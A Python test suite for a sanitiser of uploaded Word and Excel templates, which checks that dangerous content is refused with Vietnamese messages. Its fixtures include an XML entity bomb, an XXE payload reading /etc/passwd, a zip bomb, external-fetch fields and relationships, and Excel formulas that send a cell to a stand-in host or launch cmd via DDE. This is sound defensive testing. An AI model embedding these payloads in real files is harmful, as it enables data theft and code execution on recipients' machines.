"""Forms that may be made to do harm: what reaches out of them is taken off or refused, in words."""

import io
import zipfile
from collections.abc import Mapping
from typing import Any, Literal

import docx
import openpyxl
import pytest
from docx.oxml import parse_xml

from kh02.sandbox.fault import BadTemplateError
from kh02.sandbox.package import checked, repacked

Kind = Literal["docx", "xlsx"]
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
REACHING = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def word(text: str = "{{ day }}") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    return saved(document)


def excel(**cells: object) -> bytes:
    book = openpyxl.Workbook()
    for name, value in (cells or {"A1": "{{ day }}"}).items():
        book.active[name] = value
    return saved(book)


def saved(made: Any) -> bytes:
    written = io.BytesIO()
    made.save(written)
    return written.getvalue()


def with_parts(form: bytes, parts: Mapping[str, bytes]) -> bytes:
    """The package with parts added to it, or put in the place of its own."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(form)) as source,
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, content in parts.items():
            target.writestr(name, content)
    return written.getvalue()


def linked(form: bytes, links: str, kind: str, target: str) -> bytes:
    """The form with a relation to something outside, in the part of relations ``links``."""
    with zipfile.ZipFile(io.BytesIO(form)) as packed:
        text = packed.read(links).decode() if links in packed.namelist() else "<Relationships xmlns="
    if text.endswith("xmlns="):
        text += '"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    link = f'<Relationship Id="rIdX" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    return with_parts(form, {links: text.replace("</Relationships>", f"{link}</Relationships>").encode()})


def refusal(form: bytes, kind: Kind) -> str:
    with pytest.raises(BadTemplateError) as caught:
        checked(form, kind)
    return str(caught.value)


def test_an_ordinary_form_stays_as_it_is() -> None:
    assert checked(form := word(), "docx") == form
    assert checked(form := excel(A1="=SUM(B1:B2)", B1="{{ day }}"), "xlsx") == form


@pytest.mark.parametrize("form", [b"", b"# no zip", b"PK\x03\x04 damaged", excel()])
def test_what_is_no_word_file_is_refused(form: bytes) -> None:
    assert "Word (.docx)" in refusal(form, "docx")


@pytest.mark.parametrize("form", [b"", b"# no zip", word()])
def test_what_is_no_excel_file_is_refused(form: bytes) -> None:
    assert refusal(form, "xlsx") == "không phải là sổ Excel (.xlsx), hoặc đã hỏng"


@pytest.mark.parametrize(("form", "kind"), [(word(), "docx"), (excel(), "xlsx")])
def test_a_zip_bomb_is_not_unpacked(form: bytes, kind: Kind) -> None:
    assert "giải nén ra lớn bất thường" in refusal(with_parts(form, {"bom.xml": b" " * 99_000_000}), kind)


@pytest.mark.parametrize("content", [BOMB, REACHING], ids=["entities", "external entity"])
@pytest.mark.parametrize(
    ("form", "kind", "part"),
    [
        (word(), "docx", "word/document.xml"),
        (word(), "docx", "word/settings.xml"),
        (excel(), "xlsx", "xl/worksheets/sheet1.xml"),
        (excel(), "xlsx", "xl/styles.xml"),
        (excel(), "xlsx", "docProps/core.xml"),
    ],
)
def test_entities_are_refused_in_every_part(form: bytes, kind: Kind, part: str, content: bytes) -> None:
    assert "khai báo DTD" in refusal(with_parts(form, {part: content}), kind)


@pytest.mark.parametrize(
    ("form", "doc_kind", "links", "kind"),
    [
        (word(), "docx", "word/_rels/document.xml.rels", "image"),
        (word(), "docx", "word/_rels/document.xml.rels", "oleObject"),
        (word(), "docx", "word/_rels/document.xml.rels", "subDocument"),
        (word(), "docx", "word/_rels/header1.xml.rels", "image"),
        (excel(), "xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath"),
        (excel(), "xlsx", "xl/drawings/_rels/drawing1.xml.rels", "image"),
    ],
)
def test_what_is_fetched_from_outside_is_refused_with_its_address(
    form: bytes, doc_kind: Kind, links: str, kind: str
) -> None:
    message = refusal(linked(form, links, kind, "http://x.example/a.png"), doc_kind)
    assert message.startswith(f"phần {links} lấy nội dung ({kind}) từ bên ngoài: http://x.example/a.png; hãy ")


def test_links_that_somebody_has_to_click_stay() -> None:
    form = linked(word(), "word/_rels/document.xml.rels", "hyperlink", "https://dichvucong.gov.vn")
    assert checked(form, "docx") == form


def test_the_link_to_the_word_template_it_was_made_with_is_taken_off() -> None:
    document = docx.Document()
    element = parse_xml(
        '<w:attachedTemplate xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{RELATIONS}" r:id="rIdX"/>'
    )
    document.settings.element.insert(0, element)
    links = "word/_rels/settings.xml.rels"
    form = linked(saved(document), links, "attachedTemplate", "http://xau.example/a.dotm")
    with zipfile.ZipFile(io.BytesIO(checked(form, "docx"))) as packed:
        assert b"xau.example" not in packed.read(links)
        assert b"attachedTemplate" not in packed.read("word/settings.xml")
    assert docx.Document(io.BytesIO(checked(form, "docx"))).paragraphs == []


@pytest.mark.parametrize("part", ["word/vbaProject.bin", "word/activeX/activeX1.bin"])
def test_macros_are_refused(part: str) -> None:
    assert refusal(with_parts(word(), {part: b"x"}), "docx") == "có macro; hãy lưu lại thành tệp không có macro"


@pytest.mark.parametrize("field", ["INCLUDEPICTURE", "includetext", "DDEAUTO", "LINK"])
def test_fields_that_fetch_are_refused_also_in_pieces(field: str) -> None:
    document = docx.Document()
    paragraph = document.add_paragraph()._p
    for piece in (field[:4], field[4:] + ' "http://xau.example"'):
        paragraph.append(
            parse_xml(
                '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                f'<w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
            )
        )
    assert refusal(saved(document), "docx").startswith(f"có trường {field.upper()} lấy nội dung từ bên ngoài")


def test_page_numbers_are_fields_that_stay() -> None:
    document = docx.Document()
    document.add_paragraph()._p.append(parse_xml(f'<w:fldSimple xmlns:w="{WORD}" w:instr=" PAGE "/>'))
    assert checked(form := saved(document), "docx") == form


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://xau.example/?"&A1)', "=[1]Sheet1!A1", "='[so-khac.xlsx]B'!A1", "=cmd|'/c calc'!A1"],
)
def test_formulas_that_fetch_or_start_something_are_refused(formula: str) -> None:
    assert "công thức lấy số từ bên ngoài" in refusal(excel(A1=formula), "xlsx")


@pytest.mark.parametrize("formula", ["=Tbl[Cột]+1", '=IF(A1="[x]!","a|b",B1)', "='Biểu 2'!A1"])
def test_formulas_of_the_form_itself_stay(formula: str) -> None:
    assert checked(form := excel(A1=formula), "xlsx") == form


def test_a_package_written_anew_depends_on_its_contents_only() -> None:
    form = word()
    assert repacked(form, {}) == repacked(with_parts(form, {}), {})
    with zipfile.ZipFile(io.BytesIO(repacked(form, {"word/document.xml": b"<a/>"}))) as packed:
        assert packed.read("word/document.xml") == b"<a/>"
